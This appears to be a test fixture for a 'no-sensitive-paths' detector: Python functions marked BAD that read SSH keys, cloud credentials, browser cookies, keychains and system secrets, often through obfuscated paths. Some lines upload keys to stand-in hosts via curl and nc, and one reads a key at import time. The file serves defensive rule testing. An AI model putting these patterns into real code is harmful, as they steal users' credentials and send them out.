import base64
import binascii
import codecs
import contextlib
import fileinput
import functools
import getpass
import glob
import io
import itertools
import json
import linecache
import mmap
import os
import pathlib
import platform
import posixpath
import pwd
import shutil
import sqlite3
import string
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path, PosixPath, PurePath

from lib import where
from lib.where import BASE, KEY, NAME, STORE


def user_entry():
    home = pwd.getpwuid(os.getuid()).pw_dir
    return open(os.path.join(home, ".ssh", "id_rsa")).read()  # BAD no-sensitive-paths/credentials


def user_entry_index():
    return open(pwd.getpwnam(getpass.getuser())[5] + "/.ssh/id_ed25519").read()  # BAD no-sensitive-paths/credentials


def login():
    return open(f"/home/{getpass.getuser()}/.ssh/id_rsa").read()  # BAD no-sensitive-paths/credentials


def user_format():
    return open("/Users/{}/.aws/credentials".format(os.getlogin())).read()  # BAD no-sensitive-paths/credentials


def parts():
    names = [".ssh", "id_rsa"]
    return Path.home().joinpath(*names).read_text()  # BAD no-sensitive-paths/credentials


def parts_join():
    names = ("~", ".aws", "credentials")
    return open(os.path.expanduser(os.path.join(*names))).read()  # BAD no-sensitive-paths/credentials


def reduced():
    path = functools.reduce(os.path.join, ["~", ".ssh", "id_rsa"])
    return open(os.path.expanduser(path)).read()  # BAD no-sensitive-paths/credentials


def reduced_div():
    path = functools.reduce(lambda a, b: a / b, [".ssh", "id_rsa"], Path.home())
    return path.read_bytes()  # BAD no-sensitive-paths/credentials


def separators():
    return open(os.sep.join([os.path.expanduser("~"), ".ssh", "id_rsa"])).read()  # BAD no-sensitive-paths/credentials


def separator_sum():
    return open(os.environ["HOME"] + os.sep + ".ssh" + os.sep + "id_rsa").read()  # BAD no-sensitive-paths/credentials


def environment_get():
    return open(os.environ.get("HOME", "/root") + "/.ssh/id_rsa").read()  # BAD no-sensitive-paths/credentials


def environment_getenv():
    return open((os.getenv("HOME") or os.getenv("USERPROFILE")) + "/.ssh/id_rsa")  # BAD no-sensitive-paths/credentials


def expandvars():
    return open(os.path.expandvars("$HOME/.kube/config")).read()  # BAD no-sensitive-paths/credentials


def expandvars_windows():
    return open(os.path.expandvars(r"%APPDATA%\Bitcoin\wallet.dat"), "rb")  # BAD no-sensitive-paths/wallet


def percent():
    return open("%s/.ssh/%s" % (Path.home(), "id_rsa")).read()  # BAD no-sensitive-paths/credentials


def template():
    path = string.Template("$home/.ssh/$name").substitute(home=Path.home(), name="id_rsa")
    return open(path).read()  # BAD no-sensitive-paths/credentials


def encoded():
    return open(os.path.expanduser(base64.b64decode("fi8uc3NoL2lkX3JzYQ==").decode()))  # BAD no-sensitive-paths/credentials


def hexadecimal():
    return open(os.path.expanduser(bytes.fromhex("7e2f2e7373682f69645f727361").decode()))  # BAD no-sensitive-paths/credentials


def reversed_text():
    return open(os.path.expanduser("asr_di/hss./~"[::-1])).read()  # BAD no-sensitive-paths/credentials


def characters():
    return open(os.path.expanduser("~/" + "".join(map(chr, [46, 115, 115, 104])) + "/id_rsa"))  # BAD no-sensitive-paths/credentials


def characters_generator():
    return open(os.path.expanduser("~/" + "".join(chr(c) for c in (46, 115, 115, 104)) + "/id_rsa"))  # BAD no-sensitive-paths/credentials


def rot():
    return open(os.path.expanduser(codecs.decode("~/.ffu/vq_efn", "rot13"))).read()  # BAD no-sensitive-paths/credentials


def unhex():
    return open(os.path.expanduser(binascii.unhexlify("7e2f2e7373682f69645f727361").decode()))  # BAD no-sensitive-paths/credentials


def replaced():
    return open(os.path.expanduser("~/XsshXid_rsa".replace("Xs", ".s").replace("X", "/"))).read()  # BAD no-sensitive-paths/credentials


def elsewhere():
    return (BASE / STORE / NAME).read_text()  # BAD no-sensitive-paths/credentials


def elsewhere_module():
    return open(os.path.expanduser(where.KEY)).read()  # BAD no-sensitive-paths/credentials


def elsewhere_name():
    return Path(KEY).expanduser().read_text()  # BAD no-sensitive-paths/credentials


def switch():
    path = {
        "Linux": "~/.config/google-chrome",
        "Darwin": "~/Library/Application Support/Google/Chrome",
    }[platform.system()]
    return os.listdir(os.path.expanduser(path))  # BAD no-sensitive-paths/browser-data


def switch_get():
    paths = {"linux": ".config/google-chrome/Default", "darwin": "Library/Application Support/Google/Chrome/Default"}
    base = Path.home() / paths.get(sys.platform, "x")
    return sqlite3.connect(base / "Cookies")  # BAD no-sensitive-paths/browser-data


def switch_if():
    if sys.platform == "darwin":
        base = "~/Library/Keychains"
    else:
        base = "~/.local/share/keyrings"
    return shutil.copytree(os.path.expanduser(base), "x")  # BAD no-sensitive-paths/keychain


def switch_match():
    match platform.system():
        case "Darwin":
            base = "~/Library/Keychains/login.keychain-db"
        case _:
            base = "~/.local/share/keyrings/login.keyring"
    return Path(base).expanduser().read_bytes()  # BAD no-sensitive-paths/keychain


def found_by_walk():
    for root, _, files in os.walk(os.path.expanduser("~")):  # BAD no-sensitive-paths/outside-workspace
        for name in files:
            if name == "id_rsa":
                # the folder itself is what it lists first
                print(open(os.path.join(root, name)).read())  # BAD no-sensitive-paths/credentials BAD no-sensitive-paths/outside-workspace


def found_by_walk_end():
    for root, _, files in os.walk(Path.home()):
        for name in files:
            if name.endswith("id_ed25519"):
                yield open(f"{root}/{name}").read()  # BAD no-sensitive-paths/credentials


def found_by_rglob():
    return [path.read_text() for path in Path.home().rglob("id_rsa")]  # BAD no-sensitive-paths/credentials


def found_by_glob():
    return glob.glob(os.path.expanduser("~/**/id_rsa"), recursive=True)  # BAD no-sensitive-paths/credentials


def found_by_pattern():
    for path in Path.home().glob(".ssh/*"):  # BAD no-sensitive-paths/credentials
        print(path.read_text())  # BAD no-sensitive-paths/credentials


def found_in_folder():
    for path in (Path.home() / ".ssh").iterdir():  # BAD no-sensitive-paths/credentials
        yield path.read_bytes()  # BAD no-sensitive-paths/credentials


def listed():
    base = os.path.expanduser("~/.ssh")
    for name in os.listdir(base):  # BAD no-sensitive-paths/credentials
        yield open(os.path.join(base, name)).read()  # BAD no-sensitive-paths/credentials


def scanned():
    with os.scandir(os.path.expanduser("~/.gnupg")) as entries:  # BAD no-sensitive-paths/credentials
        return [open(entry.path).read() for entry in entries]  # BAD no-sensitive-paths/credentials


def many():
    for name in (".ssh/id_rsa", ".aws/credentials", ".npmrc"):
        path = Path.home() / name
        if path.exists():
            yield path.read_text()  # BAD no-sensitive-paths/credentials


def many_joined():
    targets = [os.path.join(os.path.expanduser("~"), name) for name in (".ssh/id_rsa", ".netrc")]
    return [open(target).read() for target in targets]  # BAD no-sensitive-paths/credentials


def table():
    places = {"ssh": "~/.ssh/id_rsa", "aws": "~/.aws/credentials"}
    return {name: open(os.path.expanduser(path)).read() for name, path in places.items()}  # BAD no-sensitive-paths/credentials


def mapped():
    return list(map(open, map(os.path.expanduser, ["~/.ssh/id_rsa"])))  # BAD no-sensitive-paths/credentials


def archived():
    return shutil.make_archive("/tmp/x", "zip", os.path.expanduser("~/.ssh"))  # BAD no-sensitive-paths/credentials


def archived_keyword():
    return shutil.make_archive("/tmp/x", "zip", root_dir=Path.home(), base_dir=".ssh")  # BAD no-sensitive-paths/credentials


def tar():
    with tarfile.open("/tmp/x.tgz", "w:gz") as archive:
        archive.add(os.path.expanduser("~/.aws"))  # BAD no-sensitive-paths/credentials


def zipped():
    with zipfile.ZipFile("/tmp/x.zip", "w") as archive:
        archive.write(os.path.expanduser("~/.ssh/id_rsa"))  # BAD no-sensitive-paths/credentials


def copied():
    shutil.copyfileobj(open(Path.home() / ".netrc"), sys.stdout)  # BAD no-sensitive-paths/credentials


def descriptor():
    return os.read(os.open(os.path.expanduser("~/.ssh/id_rsa"), os.O_RDONLY), 4096)  # BAD no-sensitive-paths/credentials


def input_output():
    return io.open(os.path.expanduser("~/.ssh/id_rsa")).read()  # BAD no-sensitive-paths/credentials


def file_io():
    return io.FileIO(os.path.expanduser("~/.ssh/id_rsa")).read()  # BAD no-sensitive-paths/credentials


def cached():
    return linecache.getlines(os.path.expanduser("~/.ssh/id_rsa"))  # BAD no-sensitive-paths/credentials


def inputs():
    return list(fileinput.input(files=[os.path.expanduser("~/.ssh/id_rsa")]))  # BAD no-sensitive-paths/credentials


def mapped_memory():
    with open(os.path.expanduser("~/.ssh/id_rsa"), "r+b") as stream:  # BAD no-sensitive-paths/credentials
        return mmap.mmap(stream.fileno(), 0)


def database():
    return sqlite3.connect("file:" + os.path.expanduser("~/.mozilla/firefox/x/cookies.sqlite") + "?mode=ro", uri=True)  # BAD no-sensitive-paths/browser-data


def database_copy():
    source = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
    shutil.copy2(source, "x.db")  # BAD no-sensitive-paths/browser-data


def database_local():
    source = os.getenv("LOCALAPPDATA") + r"\Google\Chrome\User Data\Local State"
    return json.load(open(source))  # BAD no-sensitive-paths/browser-data


def keychain_program():
    return subprocess.check_output(["security", "find-generic-password", "-s", "Chrome Safe Storage", "-w"])  # BAD no-sensitive-paths/keychain


def keychain_dump():
    return os.popen("security dump-keychain -d login.keychain").read()  # BAD no-sensitive-paths/keychain


def secret_tool():
    return subprocess.run("secret-tool search --all xdg:schema chrome", shell=True)  # BAD no-sensitive-paths/keychain


def keyring_library():
    import keyring

    return keyring.get_password("login", "me")  # BAD no-sensitive-paths/keychain


def browser_library():
    import browser_cookie3

    return browser_cookie3.chrome(domain_name="example.com")  # BAD no-sensitive-paths/browser-data


def browser_cookie():
    from pycookiecheat import chrome_cookies

    return chrome_cookies("https://example.com")  # BAD no-sensitive-paths/browser-data


def windows_data():
    import win32crypt

    return win32crypt.CryptUnprotectData(b"x", None, None, None, 0)  # BAD no-sensitive-paths/keychain


def windows_types():
    import ctypes

    return ctypes.windll.crypt32.CryptUnprotectData(None, None, None, None, None, 0, None)  # BAD no-sensitive-paths/keychain


def secret_service():
    import secretstorage

    bus = secretstorage.dbus_init()
    return [item.get_secret() for item in secretstorage.get_default_collection(bus).get_all_items()]  # BAD no-sensitive-paths/keychain


def proc():
    return Path("/proc", str(os.getppid()), "environ").read_bytes()  # BAD no-sensitive-paths/system-secrets


def pure():
    return open(PurePath(os.path.expanduser("~"), ".ssh", "id_rsa")).read()  # BAD no-sensitive-paths/credentials


def posix():
    return PosixPath("~/.ssh/id_rsa").expanduser().open().read()  # BAD no-sensitive-paths/credentials


def posix_join():
    return open(posixpath.join(posixpath.expanduser("~"), ".ssh", "id_rsa")).read()  # BAD no-sensitive-paths/credentials


def renamed():
    return Path.home().joinpath(".ssh", "x").with_name("id_rsa").read_text()  # BAD no-sensitive-paths/credentials


def upwards():
    return open("../../../../../../etc/shadow").read()  # BAD no-sensitive-paths/system-secrets


def relative():
    os.chdir(os.path.expanduser("~/.ssh"))
    return open("id_rsa").read()  # BAD no-sensitive-paths/credentials


def stacked():
    with contextlib.ExitStack() as stack:
        return stack.enter_context(open(os.path.expanduser("~/.ssh/id_rsa"))).read()  # BAD no-sensitive-paths/credentials


def product():
    for folder, name in itertools.product((".ssh",), ("id_rsa", "id_dsa")):
        yield Path.home().joinpath(folder, name).read_text()  # BAD no-sensitive-paths/credentials


def shell():
    return subprocess.check_output(f"cat {Path.home()}/.ssh/id_rsa", shell=True)  # BAD no-sensitive-paths/credentials


def shell_split():
    return subprocess.run("cat ~/.aws/credentials".split(), capture_output=True)  # BAD no-sensitive-paths/credentials


def curl():
    return subprocess.run(["curl", "-F", "f=@" + os.path.expanduser("~/.ssh/id_rsa"), "https://x.example"])  # BAD no-sensitive-paths/credentials


def system():
    os.system("tar czf - ~/.ssh | nc collector.example 99")  # BAD no-sensitive-paths/credentials


def reader(path):
    return open(path).read()  # BAD no-sensitive-paths/credentials


def through():
    return reader(os.path.expanduser("~/.ssh/id_rsa"))


class Store:
    folder = ".ssh"

    def __init__(self):
        self.root = Path.home() / self.folder

    @property
    def key(self):
        return self.root / "id_rsa"

    def load(self):
        return self.key.read_text()  # BAD no-sensitive-paths/credentials


print(Store().load())


def home_of_user():
    return open(os.path.expanduser("~" + os.environ["USER"]) + "/.ssh/id_rsa").read()  # BAD no-sensitive-paths/credentials


def home_resolved():
    return Path("~").expanduser().resolve().joinpath(".ssh").joinpath("id_rsa").read_text()  # BAD no-sensitive-paths/credentials


def interpolated_case():
    return open(os.path.expanduser("~/.SSH/ID_RSA".lower())).read()  # BAD no-sensitive-paths/credentials


def exec_open():
    return getattr(Path.home() / ".ssh" / "id_rsa", "read_" + "text")()  # BAD no-sensitive-paths/credentials


